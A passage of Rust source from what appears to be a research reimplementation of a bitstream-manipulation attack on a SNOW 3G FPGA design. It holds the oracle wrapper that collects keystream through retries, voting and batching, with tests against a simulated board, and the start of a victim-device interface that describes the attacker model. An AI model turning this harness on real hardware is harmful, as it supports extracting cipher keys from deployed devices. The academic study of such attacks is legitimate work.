        let sample = u32::try_from((faults * 1000 / attempts).min(1000)).expect("clamped");
        if let Some(event) = self.policy.observe(q, sample) {
            self.telemetry.record_policy(
                event.at_query,
                event.from_level,
                event.to_level,
                event.ewma_milli,
            );
        }
    }

    /// One logical query: collect the policy's number of full reads
    /// (each individually retried) and return their bitwise majority.
    ///
    /// # Errors
    ///
    /// [`ResilienceError::BudgetExhausted`] when the attempt cap is
    /// hit, [`ResilienceError::RetriesExhausted`] when a read stays
    /// transiently broken, [`ResilienceError::Fatal`] on a
    /// non-transient oracle error.
    pub fn query(
        &mut self,
        bitstream: &Bitstream,
        words: usize,
    ) -> Result<Vec<u32>, ResilienceError> {
        let before = self.stats;
        let result = self.query_inner(bitstream, words);
        self.record_query_telemetry(before, &result);
        result
    }

    /// Whether a *reordered* speculative query wave is faithful: only
    /// when no query draws jitter, votes, retries, backs off, adapts,
    /// or consumes a fault stream indexed by load order. The attack's
    /// batched candidate scan interleaves queries from different
    /// candidates, so it must check this — a fault-planning oracle's
    /// trace is defined by serial load order, and only
    /// [`query_batch`](Self::query_batch) (which preserves that
    /// order) is exact there.
    pub(crate) fn reorder_transparent(&self) -> bool {
        self.pass_through() && !self.inner.fault_planning()
    }

    /// Whether this configuration is pass-through: a single vote, a
    /// single attempt, zero base backoff and a fixed policy — no
    /// query draws jitter or advances the simulated clock.
    fn pass_through(&self) -> bool {
        self.config.votes.max(1) == 1
            && self.config.retry.max_attempts.max(1) == 1
            && self.config.retry.base_delay_ms == 0
            && !self.config.adaptive
    }

    /// A batch of independent logical queries, answered positionally,
    /// always bit-identical to the serial [`query`](Self::query) loop
    /// in results, accounting and fault trace:
    ///
    /// * against a **fault-planning oracle** (an `UnreliableBoard`),
    ///   the whole batch — retries, votes, backoff, budget gates and
    ///   the adaptive policy — is *simulated* against speculative
    ///   fault plans for the exact load indices serial execution
    ///   would use, device data is read once from the clean substrate
    ///   via [`KeystreamOracle::keystream_batch_clean`] (a
    ///   gang-simulated board evaluates up to 64 lanes per pass), and
    ///   exactly the reads serial execution performs are committed.
    ///   This is what lets noisy runs batch end-to-end;
    /// * on a **pass-through configuration** over a non-planning
    ///   oracle, the batch is dispatched wide through
    ///   [`KeystreamOracle::keystream_batch`] with the serial
    ///   bookkeeping replayed item by item;
    /// * otherwise (a voting/retrying configuration over an oracle
    ///   whose fault stream cannot be planned), batching is defined
    ///   as the sequential per-item loop outright.
    pub fn query_batch(
        &mut self,
        bitstreams: &[Bitstream],
        words: usize,
    ) -> Vec<Result<Vec<u32>, ResilienceError>> {
        if bitstreams.is_empty() {
            return Vec::new();
        }
        let results = if self.inner.fault_planning() {
            self.query_batch_planned(bitstreams, words)
        } else if self.pass_through() {
            self.query_batch_wide(bitstreams, words)
        } else {
            bitstreams.iter().map(|bs| self.query(bs, words)).collect()
        };
        if self.telemetry.is_enabled() {
            self.telemetry.record_batch(bitstreams.len() as u64, fpga_sim::GANG_LANES as u64);
        }
        results
    }

    /// The planned batch path: the board's fault decisions are pure
    /// functions of `(board seed, load index)`, so the entire serial
    /// state machine — vote loops, retry loops, budget and deadline
    /// gates, jitter, the virtual clock and the adaptive controller —
    /// is replayed here against *planned* reads, in input order,
    /// without touching the device. Device data comes from one
    /// speculative clean wide pass (side-effect-free; items the
    /// budget cuts never commit), and the plans serial execution
    /// would have performed are committed to the board afterwards,
    /// leaving it in the bit-identical state.
    fn query_batch_planned(
        &mut self,
        bitstreams: &[Bitstream],
        words: usize,
    ) -> Vec<Result<Vec<u32>, ResilienceError>> {
        let clean = self.inner.keystream_batch_clean(bitstreams, words);
        let mut plans: Vec<fpga_sim::ReadPlan> = Vec::new();
        let mut out = Vec::with_capacity(bitstreams.len());
        for item_clean in &clean {
            let before = self.stats;
            let result = self.query_planned_one(item_clean, words, &mut plans);
            self.record_query_telemetry(before, &result);
            out.push(result);
        }
        self.inner.commit_reads(&plans);
        out
    }

    /// One logical query of the planned path — the exact mirror of
    /// [`query_inner`](Self::query_inner) with planned reads in place
    /// of device reads.
    fn query_planned_one(
        &mut self,
        clean: &Result<Vec<u32>, OracleError>,
        words: usize,
        plans: &mut Vec<fpga_sim::ReadPlan>,
    ) -> Result<Vec<u32>, ResilienceError> {
        let before = self.stats;
        self.stats.queries += 1;
        let q = self.stats.queries - 1;
        let votes = self.effective_votes();
        let mut reads = 0u64;
        let mut ballots: Vec<Vec<u32>> = Vec::with_capacity(votes as usize);
        for _ in 0..votes {
            ballots.push(self.planned_read_once(clean, words, q, &mut reads, plans)?);
        }
        let (z, mismatches) = tally(ballots);
        self.observe_query(q, mismatches, before);
        Ok(z)
    }

    /// One planned full read, retried through planned transient
    /// faults — the exact mirror of [`read_once`](Self::read_once).
    fn planned_read_once(
        &mut self,
        clean: &Result<Vec<u32>, OracleError>,
        words: usize,
        q: u64,
        reads: &mut u64,
        plans: &mut Vec<fpga_sim::ReadPlan>,
    ) -> Result<Vec<u32>, ResilienceError> {
        let policy = self.effective_retry();
        let attempts = policy.max_attempts.max(1);
        let mut last: Option<OracleError> = None;
        for attempt in 0..attempts {
            if let Some(limit) = self.config.budget {
                if self.stats.attempts >= limit {
                    return Err(ResilienceError::BudgetExhausted {
                        used: self.stats.attempts,
                        limit,
                    });
                }
            }
            if let Some(limit_ms) = self.config.deadline_ms {
                if self.clock.now_ms() > limit_ms {
                    return Err(ResilienceError::DeadlineExceeded {
                        now_ms: self.clock.now_ms(),
                        limit_ms,
                    });
                }
            }
            self.stats.attempts += 1;
            let ordinal = *reads;
            *reads += 1;
            // `plans.len()` loads are already planned ahead of the
            // board's commit point, so this read's load index is that
            // many past it — exactly where serial execution would be.
            let plan = self
                .inner
                .plan_read(plans.len() as u64, words)
                .expect("planned path requires a fault-planning oracle");
            let outcome = self.inner.resolve_plan(&plan, clean.clone(), words);
            plans.push(plan);
            let outcome = match outcome {
                Ok(z) if z.len() < words => {
                    Err(OracleError::ShortRead { got: z.len(), want: words })
                }
                other => other,
            };
            match outcome {
                Ok(z) => {
                    self.stats.votes_cast += 1;
                    return Ok(z);
                }
                Err(e) if e.is_transient() => {
                    self.stats.transient_errors += 1;
                    let mut rng = self.jitter_rng(q, ordinal);
                    let delay = policy.delay_ms(attempt, &mut rng);
                    self.clock.advance(delay);
                    self.stats.backoff_ms += delay;
                    last = Some(e);
                }
                Err(e) => return Err(ResilienceError::Fatal(e)),
            }
        }
        Err(ResilienceError::RetriesExhausted {
            attempts,
            last: last.unwrap_or(OracleError::ShortRead { got: 0, want: words }),
        })
    }

    /// The wide batch path: one inner `keystream_batch` call for the
    /// budget-admitted prefix, with the serial path's per-item
    /// bookkeeping replayed around it.
    fn query_batch_wide(
        &mut self,
        bitstreams: &[Bitstream],
        words: usize,
    ) -> Vec<Result<Vec<u32>, ResilienceError>> {
        // With at most one attempt per item and zero base delay, no
        // query can draw jitter or advance the clock, so the budget
        // and deadline gates are static over the batch: the serial
        // loop would admit exactly this prefix to the device.
        let deadline_hit = self.config.deadline_ms.is_some_and(|limit| self.clock.now_ms() > limit);
        let admitted = if deadline_hit {
            0
        } else {
            match self.config.budget {
                Some(limit) => {
                    let room = limit.saturating_sub(self.stats.attempts);
                    usize::try_from(room).unwrap_or(usize::MAX).min(bitstreams.len())
                }
                None => bitstreams.len(),
            }
        };
        let inner_results = self.inner.keystream_batch(&bitstreams[..admitted], words);
        let mut out = Vec::with_capacity(bitstreams.len());
        let mut answers = inner_results.into_iter();
        for i in 0..bitstreams.len() {
            let before = self.stats;
            self.stats.queries += 1;
            let q = self.stats.queries - 1;
            let result: Result<Vec<u32>, ResilienceError> = if i >= admitted {
                // Same gate order as `read_once`: budget, then
                // deadline.
                if let Some(limit) =
                    self.config.budget.filter(|&limit| self.stats.attempts >= limit)
                {
                    Err(ResilienceError::BudgetExhausted { used: self.stats.attempts, limit })
                } else {
                    let limit_ms = self.config.deadline_ms.unwrap_or(0);
                    Err(ResilienceError::DeadlineExceeded { now_ms: self.clock.now_ms(), limit_ms })
                }
            } else {
                self.stats.attempts += 1;
                let outcome = match answers.next().expect("one answer per admitted item") {
                    Ok(z) if z.len() < words => {
                        Err(OracleError::ShortRead { got: z.len(), want: words })
                    }
                    other => other,
                };
                match outcome {
                    Ok(z) => {
                        self.stats.votes_cast += 1;
                        Ok(z)
                    }
                    Err(e) if e.is_transient() => {
                        // Bookkeeping mirrors the serial transient
                        // arm; with base delay 0 this draws nothing
                        // and advances nothing.
                        self.stats.transient_errors += 1;
                        let mut rng = self.jitter_rng(q, 0);
                        let delay = self.config.retry.delay_ms(0, &mut rng);
                        self.clock.advance(delay);
                        self.stats.backoff_ms += delay;
                        Err(ResilienceError::RetriesExhausted { attempts: 1, last: e })
                    }
                    Err(e) => Err(ResilienceError::Fatal(e)),
                }
            };
            self.record_query_telemetry(before, &result);
            out.push(result);
        }
        out
    }

    /// The uninstrumented query body — everything that touches the
    /// clock, budget and policy lives here, *before* any recording.
    fn query_inner(
        &mut self,
        bitstream: &Bitstream,
        words: usize,
    ) -> Result<Vec<u32>, ResilienceError> {
        let before = self.stats;
        self.stats.queries += 1;
        let q = self.stats.queries - 1;
        let votes = self.effective_votes();
        let mut reads = 0u64;
        let mut ballots: Vec<Vec<u32>> = Vec::with_capacity(votes as usize);
        for _ in 0..votes {
            ballots.push(self.read_once(bitstream, words, q, &mut reads)?);
        }
        let (z, mismatches) = tally(ballots);
        self.observe_query(q, mismatches, before);
        Ok(z)
    }

    /// One full read, retried through transient errors.
    fn read_once(
        &mut self,
        bitstream: &Bitstream,
        words: usize,
        q: u64,
        reads: &mut u64,
    ) -> Result<Vec<u32>, ResilienceError> {
        let policy = self.effective_retry();
        let attempts = policy.max_attempts.max(1);
        let mut last: Option<OracleError> = None;
        for attempt in 0..attempts {
            if let Some(limit) = self.config.budget {
                if self.stats.attempts >= limit {
                    return Err(ResilienceError::BudgetExhausted {
                        used: self.stats.attempts,
                        limit,
                    });
                }
            }
            if let Some(limit_ms) = self.config.deadline_ms {
                if self.clock.now_ms() > limit_ms {
                    return Err(ResilienceError::DeadlineExceeded {
                        now_ms: self.clock.now_ms(),
                        limit_ms,
                    });
                }
            }
            self.stats.attempts += 1;
            let ordinal = *reads;
            *reads += 1;
            // A short Ok from a non-typed oracle is the same fault as
            // a typed ShortRead: retry it.
            let outcome = match self.inner.keystream(bitstream, words) {
                Ok(z) if z.len() < words => {
                    Err(OracleError::ShortRead { got: z.len(), want: words })
                }
                other => other,
            };
            match outcome {
                Ok(z) => {
                    self.stats.votes_cast += 1;
                    return Ok(z);
                }
                Err(e) if e.is_transient() => {
                    self.stats.transient_errors += 1;
                    let mut rng = self.jitter_rng(q, ordinal);
                    let delay = policy.delay_ms(attempt, &mut rng);
                    self.clock.advance(delay);
                    self.stats.backoff_ms += delay;
                    last = Some(e);
                }
                Err(e) => return Err(ResilienceError::Fatal(e)),
            }
        }
        Err(ResilienceError::RetriesExhausted {
            attempts,
            last: last.unwrap_or(OracleError::ShortRead { got: 0, want: words }),
        })
    }

    /// Records one completed query's effort deltas and outcome
    /// (inert; no-op when telemetry is off).
    fn record_query_telemetry(
        &self,
        before: ResilientStats,
        result: &Result<Vec<u32>, ResilienceError>,
    ) {
        if !self.telemetry.is_enabled() {
            return;
        }
        let outcome = match result {
            Ok(_) => "ok",
            Err(ResilienceError::BudgetExhausted { .. }) => "budget-exhausted",
            Err(ResilienceError::DeadlineExceeded { .. }) => "deadline-exceeded",
            Err(ResilienceError::RetriesExhausted { .. }) => "retries-exhausted",
            Err(_) => "fatal",
        };
        self.telemetry.record_query(
            self.stats.attempts - before.attempts,
            self.stats.votes_cast - before.votes_cast,
            self.stats.transient_errors - before.transient_errors,
            self.stats.backoff_ms - before.backoff_ms,
            outcome,
        );
    }
}

/// Reduces a query's ballots to its answer and the number of outvoted
/// ballots (the adaptive controller's glitch signal): with one ballot
/// the answer is the ballot itself; otherwise the per-bit majority,
/// counting ballots that differ from it anywhere.
fn tally(mut ballots: Vec<Vec<u32>>) -> (Vec<u32>, u64) {
    if ballots.len() == 1 {
        return (ballots.pop().expect("one ballot"), 0);
    }
    let z = majority(&ballots);
    let mismatches = ballots.iter().filter(|b| b.as_slice() != z.as_slice()).count() as u64;
    (z, mismatches)
}

/// The bitwise majority of equal-length ballots: bit `b` of word `w`
/// is 1 iff a strict majority of ballots has it 1 (even-split ties
/// resolve to 0). Ballots shorter than the longest are treated as
/// missing (not zero) for the words they lack.
#[must_use]
pub fn majority(ballots: &[Vec<u32>]) -> Vec<u32> {
    let words = ballots.iter().map(Vec::len).max().unwrap_or(0);
    let mut out = Vec::with_capacity(words);
    for w in 0..words {
        let mut word = 0u32;
        for bit in 0..32 {
            let (mut ones, mut present) = (0usize, 0usize);
            for ballot in ballots {
                if let Some(v) = ballot.get(w) {
                    present += 1;
                    ones += usize::from((v >> bit) & 1 == 1);
                }
            }
            if ones * 2 > present {
                word |= 1 << bit;
            }
        }
        out.push(word);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::cell::RefCell;

    /// A scriptable oracle: pops the front of the script on every
    /// call; an empty script returns the clean keystream.
    struct Scripted {
        clean: Vec<u32>,
        script: RefCell<Vec<Result<Vec<u32>, OracleError>>>,
        calls: RefCell<usize>,
    }

    impl Scripted {
        fn new(clean: Vec<u32>, script: Vec<Result<Vec<u32>, OracleError>>) -> Self {
            Self { clean, script: RefCell::new(script), calls: RefCell::new(0) }
        }

        fn calls(&self) -> usize {
            *self.calls.borrow()
        }
    }

    impl KeystreamOracle for Scripted {
        fn keystream(&self, _bs: &Bitstream, _words: usize) -> Result<Vec<u32>, OracleError> {
            *self.calls.borrow_mut() += 1;
            let mut script = self.script.borrow_mut();
            if script.is_empty() {
                Ok(self.clean.clone())
            } else {
                script.remove(0)
            }
        }
    }

    fn bs() -> Bitstream {
        Bitstream::from_bytes(vec![0; 16])
    }

    #[test]
    fn off_config_is_pass_through() {
        let oracle = Scripted::new(vec![0xAB, 0xCD], vec![]);
        let mut r = ResilientOracle::new(&oracle, ResilienceConfig::off());
        assert_eq!(r.query(&bs(), 2).expect("clean"), vec![0xAB, 0xCD]);
        assert_eq!(oracle.calls(), 1);
        assert_eq!(r.stats().attempts, 1);
        assert_eq!(r.clock().now_ms(), 0, "no backoff on the clean path");
    }

    #[test]
    fn transient_errors_are_retried_with_backoff() {
        let oracle = Scripted::new(
            vec![7, 7],
            vec![
                Err(OracleError::TransientLoad("glitch".into())),
                Err(OracleError::Timeout { ms: 120 }),
            ],
        );
        let mut r = ResilientOracle::new(&oracle, ResilienceConfig::noisy(1).with_votes(1));
        assert_eq!(r.query(&bs(), 2).expect("recovers"), vec![7, 7]);
        assert_eq!(oracle.calls(), 3);
        let stats = r.stats();
        assert_eq!(stats.transient_errors, 2);
        assert!(stats.backoff_ms > 0, "backoff advanced the virtual clock");
        assert_eq!(r.clock().now_ms(), stats.backoff_ms);
    }

    #[test]
    fn fatal_errors_are_not_retried() {
        let oracle = Scripted::new(vec![1], vec![Err(OracleError::Rejected("bad CRC".into()))]);
        let mut r = ResilientOracle::new(&oracle, ResilienceConfig::noisy(1).with_votes(1));
        assert!(matches!(r.query(&bs(), 1), Err(ResilienceError::Fatal(_))));
        assert_eq!(oracle.calls(), 1, "a deterministic rejection is never retried");
    }

    #[test]
    fn retries_exhausted_is_typed_and_chains_source() {
        use std::error::Error as _;
        let oracle =
            Scripted::new(vec![1], (0..8).map(|_| Err(OracleError::Timeout { ms: 5 })).collect());
        let mut r = ResilientOracle::new(&oracle, ResilienceConfig::noisy(9).with_votes(1));
        let err = r.query(&bs(), 1).expect_err("board never recovers");
        assert!(matches!(err, ResilienceError::RetriesExhausted { attempts: 8, .. }));
        assert!(err.source().expect("chains to the oracle error").to_string().contains("5 ms"));
    }

    #[test]
    fn short_ok_reads_are_retried_like_short_read_errors() {
        let oracle = Scripted::new(vec![3, 4], vec![Ok(vec![3])]);
        let mut r = ResilientOracle::new(&oracle, ResilienceConfig::noisy(2).with_votes(1));
        assert_eq!(r.query(&bs(), 2).expect("full read on retry"), vec![3, 4]);
        assert_eq!(r.stats().transient_errors, 1);
    }

    #[test]
    fn budget_exhaustion_is_exact() {
        let oracle = Scripted::new(vec![1], vec![]);
        let mut r = ResilientOracle::new(&oracle, ResilienceConfig::off().with_budget(3));
        for _ in 0..3 {
            r.query(&bs(), 1).expect("within budget");
        }
        assert_eq!(r.remaining_budget(), Some(0));
        let err = r.query(&bs(), 1).expect_err("over budget");
        assert!(matches!(err, ResilienceError::BudgetExhausted { used: 3, limit: 3 }));
        assert_eq!(oracle.calls(), 3, "the budget gate precedes the device");
    }

    #[test]
    fn majority_vote_outvotes_disjoint_glitches() {
        // Three reads, each with a different single-bit flip: the
        // per-bit majority is the clean keystream.
        let clean = vec![0xDEAD_BEEFu32, 0x0123_4567];
        let oracle = Scripted::new(
            clean.clone(),
            vec![
                Ok(vec![clean[0] ^ 1, clean[1]]),
                Ok(vec![clean[0], clean[1] ^ (1 << 30)]),
                Ok(vec![clean[0] ^ (1 << 9), clean[1]]),
            ],
        );
        let mut r = ResilientOracle::new(&oracle, ResilienceConfig::noisy(5).with_votes(3));
        assert_eq!(r.query(&bs(), 2).expect("votes"), clean);
        assert_eq!(r.stats().votes_cast, 3);
    }

    #[test]
    fn majority_handles_ties_and_ragged_ballots() {
        assert_eq!(majority(&[]), Vec::<u32>::new());
        // Even split resolves to 0.
        assert_eq!(majority(&[vec![0b11], vec![0b01]]), vec![0b01]);
        // A short ballot abstains on the words it lacks.
        assert_eq!(majority(&[vec![1, 0xF0], vec![1], vec![3, 0xF0]]), vec![1, 0xF0]);
    }

    #[test]
    fn deadline_cuts_a_run_once_backoff_passes_it() {
        // Every read fails transiently, so backoff keeps advancing
        // the virtual clock until the deadline gate trips.
        let oracle =
            Scripted::new(vec![1], (0..64).map(|_| Err(OracleError::Timeout { ms: 5 })).collect());
        let config = ResilienceConfig::noisy(3).with_votes(1).with_deadline_ms(40);
        let mut r = ResilientOracle::new(&oracle, config);
        let err = loop {
            match r.query(&bs(), 1) {
                Ok(_) => {}
                Err(e) => break e,
            }
        };
        assert!(
            matches!(err, ResilienceError::DeadlineExceeded { now_ms, limit_ms: 40 } if now_ms > 40),
            "got {err:?}"
        );
        use std::error::Error as _;
        assert!(err.source().is_none(), "a deadline cut has no underlying oracle error");
    }

    #[test]
    fn snapshot_resumes_the_exact_noisy_trace() {
        // Reference: one uninterrupted noisy run of 6 queries.
        let script = || -> Vec<Result<Vec<u32>, OracleError>> {
            (0..9)
                .flat_map(|i| {
                    vec![Err(OracleError::TransientLoad(format!("glitch {i}"))), Ok(vec![i, i + 1])]
                })
                .collect()
        };
        let oracle = Scripted::new(vec![0xAA], script());
        let mut full = ResilientOracle::new(&oracle, ResilienceConfig::noisy(21).with_votes(1));
        let full_out: Vec<_> = (0..6).map(|_| full.query(&bs(), 2).expect("reads")).collect();
        let full_stats = full.stats();

        // Interrupted run: 3 queries, snapshot, rebuild, 3 more.
        let oracle2 = Scripted::new(vec![0xAA], script());
        let mut first = ResilientOracle::new(&oracle2, ResilienceConfig::noisy(21).with_votes(1));
        let mut out: Vec<_> = (0..3).map(|_| first.query(&bs(), 2).expect("reads")).collect();
        let snap = first.snapshot();
        // (the first "process" is dead from here on; only `snap` survives)
        let mut resumed = ResilientOracle::from_snapshot(
            &oracle2,
            ResilienceConfig::noisy(21).with_votes(1).with_budget(10_000),
            &snap,
        );
        out.extend((0..3).map(|_| resumed.query(&bs(), 2).expect("reads")));

        assert_eq!(out, full_out, "results are bit-identical");
        assert_eq!(resumed.stats(), full_stats, "attempt/backoff accounting is identical");
        assert_eq!(resumed.clock().now_ms(), full.clock().now_ms());
    }

    #[test]
    fn same_trace_ignores_budget_and_deadline_only() {
        let base = ResilienceConfig::noisy(5);
        assert!(base.same_trace(&base.with_budget(9).with_deadline_ms(100)));
        assert!(!base.same_trace(&ResilienceConfig::noisy(6)));
        assert!(!base.same_trace(&base.with_votes(3)));
        assert!(!base.same_trace(&base.with_retry(RetryPolicy::none())));
        assert!(!base.same_trace(&base.with_adaptive()));
    }

    #[test]
    fn wide_batch_matches_the_serial_loop_exactly() {
        // Same script run twice: once through query_batch, once
        // through a serial query loop. Results and every stats
        // counter must agree, including the budget cut mid-batch.
        let script = || -> Vec<Result<Vec<u32>, OracleError>> {
            vec![
                Ok(vec![1, 2]),
                Ok(vec![3]), // short Ok → transient → RetriesExhausted
                Err(OracleError::Rejected("bad".into())), // fatal
                Ok(vec![4, 5]),
            ]
        };
        let config = ResilienceConfig::off().with_budget(4);
        let batch: Vec<Bitstream> = (0..6).map(|_| bs()).collect();

        let oracle_a = Scripted::new(vec![9, 9], script());
        let mut a = ResilientOracle::new(&oracle_a, config);
        let batched = a.query_batch(&batch, 2);

        let oracle_b = Scripted::new(vec![9, 9], script());
        let mut b = ResilientOracle::new(&oracle_b, config);
        let serial: Vec<_> = batch.iter().map(|x| b.query(x, 2)).collect();

        assert_eq!(a.stats(), b.stats());
        assert_eq!(oracle_a.calls(), oracle_b.calls());
        assert_eq!(batched.len(), serial.len());
        for (i, (x, y)) in batched.iter().zip(&serial).enumerate() {
            match (x, y) {
                (Ok(zx), Ok(zy)) => assert_eq!(zx, zy, "item {i}"),
                (Err(ex), Err(ey)) => {
                    assert_eq!(format!("{ex:?}"), format!("{ey:?}"), "item {i}")
                }
                other => panic!("item {i} diverged: {other:?}"),
            }
        }
        // Items 4 and 5 were cut by the budget before reaching the
        // device in both modes.
        assert!(matches!(batched[4], Err(ResilienceError::BudgetExhausted { used: 4, limit: 4 })));
        assert_eq!(oracle_a.calls(), 4);
    }

    #[test]
    fn noisy_batch_over_an_unplannable_oracle_is_the_serial_loop() {
        // A retrying/voting configuration over an oracle whose fault
        // stream cannot be planned must fall back to the sequential
        // loop so the fault-draw order (hence the reproducible noisy
        // trace) is unchanged.
        let script = || -> Vec<Result<Vec<u32>, OracleError>> {
            vec![
                Err(OracleError::TransientLoad("glitch".into())),
                Ok(vec![1, 2]),
                Ok(vec![1, 6]),
                Ok(vec![5, 2]),
                Ok(vec![8, 8]),
                Err(OracleError::Timeout { ms: 3 }),
                Ok(vec![8, 8]),
                Ok(vec![8, 8]),
            ]
        };
        let config = ResilienceConfig::noisy(42).with_votes(3);
        let batch: Vec<Bitstream> = (0..2).map(|_| bs()).collect();

        let oracle_a = Scripted::new(vec![7, 7], script());
        let mut a = ResilientOracle::new(&oracle_a, config);
        let batched = a.query_batch(&batch, 2);

        let oracle_b = Scripted::new(vec![7, 7], script());
        let mut b = ResilientOracle::new(&oracle_b, config);
        let serial: Vec<_> = batch.iter().map(|x| b.query(x, 2)).collect();

        assert_eq!(a.stats(), b.stats(), "identical fault trace and accounting");
        assert_eq!(a.clock().now_ms(), b.clock().now_ms());
        assert_eq!(a.snapshot(), b.snapshot(), "identical snapshots either way");
        let unwrap_all = |v: Vec<Result<Vec<u32>, ResilienceError>>| -> Vec<Vec<u32>> {
            v.into_iter().map(|r| r.expect("recovers")).collect()
        };
        assert_eq!(unwrap_all(batched), unwrap_all(serial));
    }

    #[test]
    fn same_seed_same_backoff_trace() {
        let run = |seed: u64| {
            let oracle = Scripted::new(
                vec![1],
                (0..5).map(|_| Err(OracleError::TransientLoad("x".into()))).collect(),
            );
            let mut r = ResilientOracle::new(&oracle, ResilienceConfig::noisy(seed).with_votes(1));
            r.query(&bs(), 1).expect("recovers on attempt 6");
            r.stats().backoff_ms
        };
        assert_eq!(run(11), run(11), "jitter is a function of the seed");
    }

    #[test]
    fn jitter_is_order_free_across_queries() {
        // The backoff a failing query accumulates is keyed by
        // (seed, query index, read ordinal), not by a shared RNG
        // cursor — so the draws of *earlier* queries cannot influence
        // it, which is exactly what lets planned batches replay
        // serial jitter without replaying a cursor.
        let config = ResilienceConfig::noisy(77).with_votes(1);
        let backoff_of_query = |clean_before: usize| {
            let mut script: Vec<Result<Vec<u32>, OracleError>> =
                (0..clean_before).map(|_| Ok(vec![2])).collect();
            script.push(Err(OracleError::TransientLoad("a".into())));
            script.push(Err(OracleError::TransientLoad("b".into())));
            let oracle = Scripted::new(vec![1], script);
            let mut r = ResilientOracle::new(&oracle, config);
            for _ in 0..clean_before {
                r.query(&bs(), 1).expect("clean");
            }
            let before = r.stats().backoff_ms;
            r.query(&bs(), 1).expect("recovers");
            (r.stats().queries - 1, r.stats().backoff_ms - before)
        };
        let (q0, b0) = backoff_of_query(0);
        let (q2, b2) = backoff_of_query(2);
        assert!(b0 > 0 && b2 > 0, "both failing queries backed off");
        assert_ne!(q0, q2);
        // Same query index → same draws, regardless of history: a
        // second run with the same prefix length reproduces exactly.
        assert_eq!(backoff_of_query(2), (q2, b2));
    }

    mod on_a_real_board {
        use super::*;
        use fpga_sim::{FaultProfile, ImplementOptions, Snow3gBoard, UnreliableBoard};
        use netlist::snow3g_circuit::Snow3gCircuitConfig;
        use snow3g::vectors::{TEST_SET_1_IV, TEST_SET_1_KEY};

        fn noisy_board(profile: FaultProfile) -> UnreliableBoard {
            let config = Snow3gCircuitConfig::unprotected(TEST_SET_1_KEY, TEST_SET_1_IV);
            let inner =
                Snow3gBoard::build(config, &ImplementOptions::default()).expect("board builds");
            UnreliableBoard::new(inner, profile)
        }

        /// The headline batched-noise property: against a
        /// fault-planning board, `query_batch` on a voting + retrying
        /// configuration produces the results, stats, clock, policy
        /// state *and board fault trace* of the serial loop, bit for
        /// bit — including a budget cut mid-batch.
        #[test]
        fn planned_batch_equals_the_serial_loop_on_a_noisy_board() {
            let profile = FaultProfile::bursty(17).with_truncate(0.10);
            for (label, config) in [
                ("fixed", ResilienceConfig::noisy(0xBAD5EED).with_votes(3).with_budget(40)),
                ("adaptive", ResilienceConfig::noisy(0xBAD5EED).with_votes(3).with_adaptive()),
            ] {
                let board_a = noisy_board(profile);
                let golden = board_a.extract_bitstream();
                let batch: Vec<Bitstream> = (0..12).map(|_| golden.clone()).collect();
                let mut a = ResilientOracle::new(&board_a, config);
                let batched = a.query_batch(&batch, 4);

                let board_b = noisy_board(profile);
                let mut b = ResilientOracle::new(&board_b, config);
                let serial: Vec<_> = batch.iter().map(|x| b.query(x, 4)).collect();

                assert_eq!(a.stats(), b.stats(), "{label}: oracle accounting");
                assert_eq!(a.clock().now_ms(), b.clock().now_ms(), "{label}: virtual clock");
                assert_eq!(a.snapshot(), b.snapshot(), "{label}: snapshot incl. policy");
                assert_eq!(
                    board_a.fault_stats(),
                    board_b.fault_stats(),
                    "{label}: board-side fault trace"
                );
                assert_eq!(batched.len(), serial.len());
                for (i, (x, y)) in batched.iter().zip(&serial).enumerate() {
                    match (x, y) {
                        (Ok(zx), Ok(zy)) => assert_eq!(zx, zy, "{label}: item {i}"),
                        (Err(ex), Err(ey)) => {
                            assert_eq!(format!("{ex:?}"), format!("{ey:?}"), "{label}: item {i}");
                        }
                        other => panic!("{label}: item {i} diverged: {other:?}"),
                    }
                }
            }
        }

        /// Adaptive policy end-to-end: a board stuck in its bad burst
        /// state makes the controller escalate, and the policy state
        /// is identical between a traced and an untraced run.
        #[test]
        fn adaptive_policy_escalates_under_burst_noise_identically_traced_or_not() {
            let profile = FaultProfile::clean(33).with_burst(1.0, 0.0, 0.10).with_timeout(0.05);
            let run = |traced: bool| {
                let board = noisy_board(profile);
                let golden = board.extract_bitstream();
                let mut r = ResilientOracle::new(
                    &board,
                    ResilienceConfig::noisy(5).with_votes(3).with_adaptive(),
                );
                if traced {
                    r.set_telemetry(Telemetry::new());
                }
                for _ in 0..40 {
                    let _ = r.query(&golden, 4);
                }
                (r.policy().clone(), r.stats())
            };
            let (policy_untraced, stats_untraced) = run(false);
            let (policy_traced, stats_traced) = run(true);
            assert!(!policy_untraced.events().is_empty(), "the storm escalates the policy");
            assert!(policy_untraced.level() > 0);
            assert_eq!(policy_untraced, policy_traced, "telemetry never perturbs the policy");
            assert_eq!(stats_untraced, stats_traced);
        }
    }
}
