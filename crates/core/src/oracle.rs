//! The victim-device interface the attack drives.
//!
//! Per the attack model (Section IV-A), the adversary can load a
//! (possibly modified) bitstream into the victim FPGA and collect
//! keystream words. Nothing else — no netlist, no placement, no key.

use core::fmt;

use bitstream::Bitstream;

/// An error from the device.
#[derive(Debug)]
pub enum OracleError {
    /// The device refused the bitstream (CRC failure, malformed
    /// stream, wrong size).
    Rejected(String),
}

impl fmt::Display for OracleError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            OracleError::Rejected(why) => write!(f, "device refused configuration: {why}"),
        }
    }
}

impl std::error::Error for OracleError {}

/// *Load a bitstream, generate keystream* — the only capability the
/// attack needs from the victim device.
pub trait KeystreamOracle {
    /// Loads `bitstream` and returns `words` keystream words.
    ///
    /// # Errors
    ///
    /// Returns [`OracleError::Rejected`] when the device aborts
    /// configuration.
    fn keystream(&self, bitstream: &Bitstream, words: usize) -> Result<Vec<u32>, OracleError>;
}

impl KeystreamOracle for fpga_sim::Snow3gBoard {
    fn keystream(&self, bitstream: &Bitstream, words: usize) -> Result<Vec<u32>, OracleError> {
        self.generate_keystream(bitstream, words).map_err(|e| OracleError::Rejected(e.to_string()))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use fpga_sim::{ImplementOptions, Snow3gBoard};
    use netlist::snow3g_circuit::Snow3gCircuitConfig;
    use snow3g::vectors::{TEST_SET_1_IV, TEST_SET_1_KEY};

    #[test]
    fn board_implements_oracle() {
        let board = Snow3gBoard::build(
            Snow3gCircuitConfig::unprotected(TEST_SET_1_KEY, TEST_SET_1_IV),
            &ImplementOptions::default(),
        )
        .expect("board");
        let oracle: &dyn KeystreamOracle = &board;
        let z = oracle.keystream(&board.extract_bitstream(), 2).expect("runs");
